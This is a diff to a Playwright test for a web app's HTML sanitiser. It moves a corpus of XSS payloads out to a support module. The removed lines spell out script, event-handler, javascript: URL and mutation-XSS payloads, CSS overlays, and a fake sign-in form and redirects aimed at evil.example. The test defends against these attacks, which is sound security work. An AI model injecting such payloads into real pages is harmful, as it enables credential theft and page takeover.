@@ -1,119 +1,23 @@
 import { expect, test, type Locator, type Page } from '@playwright/test';
 import { appReady, signInAs } from './support/session';
+import { ALLOWED, run, SAFE_ADDRESS, WIRING_PAYLOADS as PAYLOADS, type Payload } from './support/xssCorpus';
 
 /*
- * A corpus of known XSS and page-takeover payloads, saved through every place the app shows HTML from data and opened
- * there in Chromium. Nothing may run (no dialog, no `window.__xss`), and nothing may leave its box: no fixed or
- * escaping element, no form control, no frame, the navbar still on top where it is.
+ * XSS and page-takeover payloads (tests/e2e/support/xssCorpus.ts), saved through every place the app shows HTML from
+ * data and opened there in Chromium. Nothing may run (no dialog, no `window.__xss`), and nothing may leave its box: no
+ * fixed or escaping element, no form control, no frame, the navbar still on top where it is.
+ *
+ * The whole corpus runs against the HTML policy and every renderer in Vitest (tests/unit/shared/xssCorpus.test.tsx);
+ * here a handful of its payloads (WIRING_PAYLOADS: a script, a handler, a script URL, an overlay, mutation XSS, a
+ * tracking image) prove the wiring: each sink cleans what it shows, the e-mail frame is sandboxed, what the server
+ * stores is what the page shows, and Chromium's own parser and layout agree.
  *
  * The app's Content-Security-Policy would also stop inline handlers; it is bypassed here so that the test proves the
  * HTML policy (src/contract/html.ts) and the e-mail frame's sandbox hold on their own. A control injection at the
  * start shows that the harness does see a handler that runs.
  */
 test.use({ bypassCSP: true });
-test.describe.configure({ timeout: 300_000 });
-
-declare global {
-  interface Window {
-    __xss?: unknown;
-  }
-}
-
-/**
- * Code a payload runs if it gets the chance: it marks the page (frames reach it through `top`). Written without quotes
- * or spaces, so it also fits an unquoted or single-quoted attribute.
- */
-const run = (id: string) => `top.__xss=/${id}/.source`;
-
-const CORPUS: Array<[string, (code: string) => string]> = [
-  ['script tag', (c) => `<script>${c}</script>`],
-  ['img onerror', (c) => `<img src="x" onerror="${c}">`],
-  ['img onerror, no quotes', (c) => `<img src=x onerror=${c}>`],
-  ['svg onload', (c) => `<svg onload="${c}"></svg>`],
-  ['body onload', () => '<body onload="alert(document.domain)">'],
-  ['svg with script', (c) => `<svg><script>${c}</script></svg>`],
-  ['svg animate onbegin', (c) => `<svg><animate onbegin="${c}" attributeName="x" dur="1s"/></svg>`],
-  ['javascript: link', (c) => `<a href="javascript:${c}">javascript link</a>`],
-  ['javascript: link, entities and case', (c) => `<a href="&#x20;JaVa&#x09;ScRiPt&colon;${c}">obfuscated link</a>`],
-  ['vbscript: link', () => '<a href="vbscript:msgbox(1)">vbscript link</a>'],
-  ['data:text/html link', (c) => `<a href="data:text/html,<script>${c}</script>">data link</a>`],
-  ['data:text/html image', (c) => `<img src="data:text/html,<script>${c}</script>">`],
-  ['SVG data image', (c) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`],
-  ['iframe javascript:', (c) => `<iframe src="javascript:${c}"></iframe>`],
-  ['iframe srcdoc', (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`],
-  [
-    'object and embed',
-    (c) =>
-      `<object data="data:text/html,<script>${c}</script>"></object><embed src="data:text/html,<script>${c}</script>">`,
-  ],
-  ['CSS overlay', () => '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired</div>'],
-  [
-    'invisible link over the page',
-    () =>
-      '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block;z-index:99999"></a>',
-  ],
-  [
-    'absolute overlay',
-    () => '<p style="position:absolute;top:0;left:0;width:2000px;height:2000px;z-index:99999;background:red">cover</p>',
-  ],
-  [
-    'fake sign-in form',
-    () =>
-      '<form action="https://evil.example/c" method="post">Session expired <input name="email"><input type="password" name="pw"><button>Sign in</button></form>',
-  ],
-  [
-    'autofocus onfocus',
-    (c) =>
-      `<input autofocus onfocus="${c}"><textarea autofocus onfocus="${c}"></textarea><select autofocus onfocus="${c}"></select>`,
-  ],
-  ['details ontoggle', () => '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
-  ['video source onerror', (c) => `<video><source onerror="${c}"></video><audio src="x" onerror="${c}"></audio>`],
-  ['meta refresh', () => '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
-  ['base href', () => '<base href="https://evil.example/"><a href="/relative">relative</a>'],
-  [
-    'style and link tags',
-    () => '<style>body{display:none}</style><link rel="stylesheet" href="data:text/css,body{display:none}">',
-  ],
-  ['noscript title breakout (mXSS)', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`],
-  ['svg style img (mXSS)', (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`],
-  ['math mglyph style (mXSS)', (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`],
-  ['form math nesting (mXSS)', (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${c}">`],
-  ['attribute breakout', (c) => `<p title="</p><img src=x onerror=${c}>">title</p>`],
-  ['template content', (c) => `<template><img src=x onerror="${c}"></template>`],
-  ['DOM clobbering', () => '<img id="__xss" name="__xss"><a id="__xss" href="https://evil.example/">clobber</a>'],
-  ['tracking image', () => '<img src="https://tracker.evil.example/pixel.gif" alt="">'],
-];
-
-const PAYLOADS = CORPUS.map(([name, make], index) => {
-  const id = `p${String(index + 1).padStart(2, '0')}`;
-  return { id, name, html: `<p>marker ${id}</p>${make(run(id))}` };
-});
-type Payload = (typeof PAYLOADS)[number];
-
-/** Tags the HTML policy allows; a sink shows nothing else. */
-const ALLOWED = new Set([
-  'p',
-  'br',
-  'hr',
-  'h1',
-  'h2',
-  'h3',
-  'h4',
-  'h5',
-  'h6',
-  'strong',
-  'em',
-  'u',
-  's',
-  'code',
-  'pre',
-  'blockquote',
-  'ul',
-  'ol',
-  'li',
-  'a',
-  'img',
-]);
+test.describe.configure({ timeout: 180_000 });
 
 /** Dialogs and new pages the test saw; none is allowed. */
 function watch(page: Page) {
@@ -235,7 +139,7 @@ async function expectContained(page: Page, payload: Payload, sink: Sink, seen: s
   expect(report.sinkOnTop, label).toBe(true);
   expect(report.controls, label).toBe(0);
   expect(
-    report.schemes.filter((scheme) => !/^(https?:|mailto:|tel:|data:image\/(png|jpeg|gif|webp))/.test(scheme)),
+    report.schemes.filter((scheme) => !SAFE_ADDRESS.test(scheme)),
     label,
   ).toEqual([]);
   // A modal editor covers the navbar by design; and its own markup (ProseMirror) carries classes and editing attributes.
@@ -358,10 +262,12 @@ test('content pages: a body saved through /v1 shows nothing that runs or escapes
 test('contributors: a biography saved through /v1 shows nothing that runs or escapes', async ({ page }) => {
   const seen = watch(page);
   const headers = await bearer(page);
+  // Records of its own, with addresses no other run on the same server has used.
+  const stamp = Date.now();
   for (const payload of PAYLOADS) {
     const created = await page.request.post('/v1/contributor', {
       headers,
-      data: { name: `Payload ${payload.id}`, email: `${payload.id}@xss.example`, biography: payload.html },
+      data: { name: `Payload ${payload.id}`, email: `${payload.id}-${stamp}@xss.example`, biography: payload.html },
     });
     expect(created.status(), payload.id).toBe(201);
     const { id } = await created.json();
